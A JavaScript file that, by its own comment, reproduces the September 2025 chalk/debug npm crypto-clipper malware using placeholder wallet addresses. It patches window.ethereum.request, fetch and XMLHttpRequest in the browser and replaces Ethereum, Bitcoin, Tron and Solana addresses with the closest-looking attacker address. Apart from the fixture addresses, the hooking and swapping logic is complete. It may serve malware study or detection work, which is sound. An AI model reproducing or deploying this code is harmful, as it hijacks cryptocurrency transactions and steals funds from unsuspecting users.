// Mimics the chalk/debug clipper (Sep 2025): wraps window.ethereum, fetch and XHR and swaps wallet
// addresses in responses for attacker ones. Defanged: fixture addresses, nothing is sent anywhere.
const patterns = {
  ethereum: /\b0x[a-fA-F0-9]{40}\b/g,
  bitcoinLegacy: /\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g,
  tron: /((?<!\w)[T][1-9A-HJ-NP-Za-km-z]{33})/g,
  solana: /(?<!\w)[4-9A-HJ-NP-Za-km-z][1-9A-HJ-NP-Za-km-z]{32,44}/g,
};
const swaps = {
  ethereum: [
    '0xF1C7000000000000000000000000000000000001',
    '0xF1C7000000000000000000000000000000000002',
    '0xF1C7000000000000000000000000000000000003',
    '0xF1C7000000000000000000000000000000000004',
    '0xF1C7000000000000000000000000000000000005',
  ],
  tron: ['TFixture2Fixture3Fixture4Fixture5u'],
};

function levenshtein(a, b) {
  const d = Array.from({ length: a.length + 1 }, (_, i) => [i]);
  for (let j = 1; j <= b.length; j++) d[0][j] = j;
  for (let i = 1; i <= a.length; i++)
    for (let j = 1; j <= b.length; j++)
      d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
  return d[a.length][b.length];
}

function closest(found, list) {
  return list.reduce((best, next) => (levenshtein(found, next) < levenshtein(found, best) ? next : best));
}

function rewrite(text) {
  let out = text;
  for (const [coin, re] of Object.entries(patterns)) {
    const list = swaps[coin];
    if (list) out = out.replace(re, (found) => closest(found, list));
  }
  return out;
}

if (typeof window !== 'undefined') {
  if (window.ethereum) {
    const original = window.ethereum.request;
    Object.defineProperty(window.ethereum, 'request', {
      value: async (args) => original.call(window.ethereum, JSON.parse(rewrite(JSON.stringify(args)))),
    });
  }
  const originalFetch = window.fetch;
  window.fetch = async (...args) => {
    const response = await originalFetch(...args);
    const body = rewrite(await response.clone().text());
    return new Response(body, response);
  };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (...args) {
    this.addEventListener('readystatechange', () => rewrite(String(this.responseText)));
    return open.apply(this, args);
  };
}
